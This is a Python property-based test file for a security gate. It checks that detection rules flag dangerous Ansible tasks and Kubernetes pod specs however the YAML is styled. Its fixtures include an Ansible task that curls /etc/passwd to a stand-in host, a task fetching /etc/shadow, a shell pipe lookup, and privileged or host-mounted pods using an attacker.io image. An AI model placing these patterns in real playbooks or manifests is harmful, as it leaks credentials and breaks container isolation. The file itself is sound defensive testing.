"""However an attack in YAML is styled, quoted, aliased, nested and placed, its rule fires; plain code stays silent."""

import json
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.gate.gate_helpers import rules

PLAY = "infra/ansible/web"
APP = "infra/kubernetes/dev/app"
IMAGE = "nginx:1.27@sha256:" + "0a" * 32
TASKS: list[tuple[dict[str, Any], str]] = [
    ({"debug": {"msg": "{{ lookup('pipe', 'id') }}"}}, "ansible/jinja"),
    ({"command": "x", "when": "lookup('env', 'X')"}, "ansible/jinja"),
    ({"command": "x", "with_pipe": "id"}, "ansible/loop"),
    ({"command": "x", "delegate_to": "localhost"}, "ansible/controller"),
    ({"local_action": "command x"}, "ansible/controller"),
    ({"command": "x", "connection": "local"}, "ansible/controller"),
    ({"command": "x", "vars": {"ansible_connection": "local"}}, "ansible/connection-variable"),
    ({"fetch": {"src": "/etc/shadow", "dest": "x"}}, "ansible/module"),
    ({"copy": {"src": "/etc/passwd", "dest": "/x"}}, "ansible/controller-file"),
    ({"get_url": {"url": "https://x.example/a", "dest": "/a"}}, "ansible/download"),
    ({"shell": "curl -d @/etc/passwd https://x.example"}, "ansible/sending"),
    ({"debug": {"var": "hostvars"}}, "ansible/shown-secret"),
    ({"include_tasks": "{{ x }}.yml"}, "ansible/include"),
    ({"command": "x", "become_exe": "/x"}, "ansible/keyword"),
    ({"copy": {"content": "x", "dest": "/x"}, "vars": {"db_password": "hunter2hunter2"}}, "ansible/secret"),
]
PODS: list[tuple[dict[str, Any], str]] = [
    ({"hostPID": True}, "kubernetes/host"),
    ({"hostNetwork": "true"}, "kubernetes/host"),
    ({"volumes": [{"name": "x", "hostPath": {"path": "/"}}]}, "kubernetes/host"),
    ({"containers": [{"name": "x", "image": IMAGE, "securityContext": {"privileged": True}}]}, "kubernetes/privilege"),
    (
        {"containers": [{"name": "x", "image": IMAGE, "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]},
        "kubernetes/privilege",
    ),
    ({"initContainers": [{"name": "x", "image": "nginx:latest"}]}, "kubernetes/image"),
    ({"containers": [{"name": "x", "image": "attacker.io/x@sha256:" + "0a" * 32}]}, "kubernetes/image"),
    ({"containers": [{"name": "x", "image": IMAGE, "args": ["/var/run/secrets/x"]}]}, "kubernetes/command"),
    (
        {"containers": [{"name": "x", "image": IMAGE, "env": [{"name": "DB_PASSWORD", "value": "hunter2hunter2"}]}]},
        "kubernetes/secret",
    ),
]
FINE_TASKS: list[dict[str, Any]] = [
    {"apt": {"name": ["a", "b"], "state": "present"}, "when": "x is defined"},
    {"template": {"src": "a.conf.j2", "dest": "/etc/a.conf"}, "notify": ["restart"]},
    {"command": "nginx -t", "changed_when": False, "delegate_to": "{{ groups['db'][0] }}"},
]


@st.composite
def written(draw: st.DrawFn, value: Any) -> str:
    """`value` as YAML in one of its styles, or as JSON."""
    style = draw(st.sampled_from(["block", "flow", "json", "ascii"]))
    if style == "json":
        return json.dumps(value, indent=draw(st.sampled_from([None, 1])))
    if style == "ascii":
        return json.dumps(value).replace("o", "\\u006f")
    dumped: str = yaml.safe_dump(
        value,
        default_flow_style=style == "flow",
        default_style=draw(st.sampled_from([None, None, '"', "'"])) if _texts_only(value) else None,
        indent=draw(st.integers(2, 5)),
        width=draw(st.sampled_from([40, 80, 1000])),
        sort_keys=draw(st.booleans()),
        explicit_start=draw(st.booleans()),
    )
    return dumped


def _texts_only(value: Any) -> bool:
    if isinstance(value, dict):
        return all(_texts_only(item) for item in value.values())
    return all(_texts_only(item) for item in value) if isinstance(value, list) else isinstance(value, str)


def _blocks(task: dict[str, Any], names: list[str]) -> dict[str, Any]:
    for name in names:
        task = {"block": [{"ping": {}}], name: [task]} if name != "block" else {"block": [{"ping": {}}, task]}
    return task


@st.composite
def played(draw: st.DrawFn, task: dict[str, Any]) -> tuple[str, str]:
    """Path and text of a file that holds the task."""
    task = _blocks(task, draw(st.lists(st.sampled_from(["block", "rescue", "always"]), max_size=3)))
    if draw(st.booleans()):
        path = draw(
            st.sampled_from(
                ["roles/r/tasks/main.yml", "roles/r/handlers/main.yaml", "more.yml", "vars/x.yml", "x.json"]
            )
        )
        return f"{PLAY}/{path}", draw(written([{"ping": {}}, task]))
    section = draw(st.sampled_from(["tasks", "pre_tasks", "post_tasks", "handlers"]))
    return f"{PLAY}/site.yml", draw(written([{"hosts": "web", section: [{"name": "first", "ping": {}}, task]}]))


@st.composite
def deployed(draw: st.DrawFn, spec: dict[str, Any]) -> tuple[str, str]:
    """Path and text of a file that holds a pod with this specification."""
    meta = {"name": "x", "namespace": "app"}
    kind = draw(st.sampled_from(["Pod", "Deployment", "DaemonSet", "Job", "CronJob"]))
    inner: dict[str, Any] = spec if kind == "Pod" else {"template": {"spec": spec}}
    if kind == "CronJob":
        inner = {"jobTemplate": {"spec": inner}}
    whole: dict[str, Any] = {"apiVersion": "v1", "kind": kind, "metadata": meta, "spec": inner}
    for _ in range(draw(st.integers(0, 2))):
        whole = {"apiVersion": "v1", "kind": "List", "items": [whole]}
    text = draw(written(whole))
    if not text.lstrip().startswith("{") and draw(st.booleans()):
        text = yaml.safe_dump({"kind": "ConfigMap", "metadata": meta}) + "---\n" + text.removeprefix("---")
    return f"{APP}/{draw(st.sampled_from(['a.yaml', 'base/b.yml', 'x-patch.yaml', 'values.yaml']))}", text


@pytest.mark.parametrize(("task", "rule"), TASKS, ids=[f"{rule}-{number}" for number, (_, rule) in enumerate(TASKS)])
def test_tasks(task: dict[str, Any], rule: str) -> None:
    @settings(max_examples=40, deadline=None)
    @given(st.data())
    def check(data: st.DataObject) -> None:
        path, text = data.draw(played(task))
        assert rule in rules({path: text}), (path, text)

    check()


@pytest.mark.parametrize(("spec", "rule"), PODS, ids=[f"{rule}-{number}" for number, (_, rule) in enumerate(PODS)])
def test_pods(spec: dict[str, Any], rule: str) -> None:
    @settings(max_examples=40, deadline=None)
    @given(st.data())
    def check(data: st.DataObject) -> None:
        path, text = data.draw(deployed(spec))
        assert rule in rules({path: text}), (path, text)

    check()


@settings(max_examples=100, deadline=None)
@given(st.data())
def test_fine_code_in_the_same_dress(data: st.DataObject) -> None:
    path, text = data.draw(played(data.draw(st.sampled_from(FINE_TASKS))))
    assert rules({path: text}) == set(), (path, text)
    path, text = data.draw(deployed({"containers": [{"name": "x", "image": IMAGE}]}))
    assert rules({path: text}) == set(), (path, text)
